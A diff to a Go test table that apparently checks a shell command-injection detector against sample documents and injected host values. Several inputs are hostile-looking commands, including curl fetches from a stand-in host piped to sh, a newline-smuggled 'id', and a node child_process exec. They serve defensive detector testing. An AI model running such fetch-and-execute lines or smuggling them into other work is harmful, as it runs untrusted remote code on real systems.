@@ -326,7 +326,9 @@ func TestShellDocuments(t *testing.T) {
 		{"transcript with output", body("doc", "$ ls -l /proc/$$/ns | awk '{print $1}'\ntotal 0\nlrwxrwxrwx. cgroup -> cgroup:[4026531835]"), "", ""},
 		{"commented script", body("doc", "# save the seed\necho saving\nbits=$(cat $poolfile) || bits=4096"), "", ""},
 		{"script from a command", body("doc", "mknod -m 660 /dev/port c 1 4\nchown root:kmem /dev/port"), "", ""},
-		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "cmdi-separator", "cmdi-separator"},
+		// a prompt makes the line inert in a shell ("$" is no command)
+		{"transcript of an install one-liner", body("doc", "$ echo hi\nhi\n$ curl -s https://evil.example/x | sh"), "", "cmdi-separator"},
+		{"transcript piped to a shell", body("doc", "$ echo hi\nhi\n$ curl -s 203.0.113.9/x | sh"), "cmdi-separator", "cmdi-separator"},
 		{"breakout before lines", q("host", "127.0.0.1\nid"), "*", "*"},
 		{"env then the project's script", body("doc", "$env:DEBUG='app';node app.js"), "", "cmdi-command-word"},
 		{"interpreter fed code", q("host", "x;node -e 'require(\"child_process\").exec(\"id\")'"), "*", "*"},
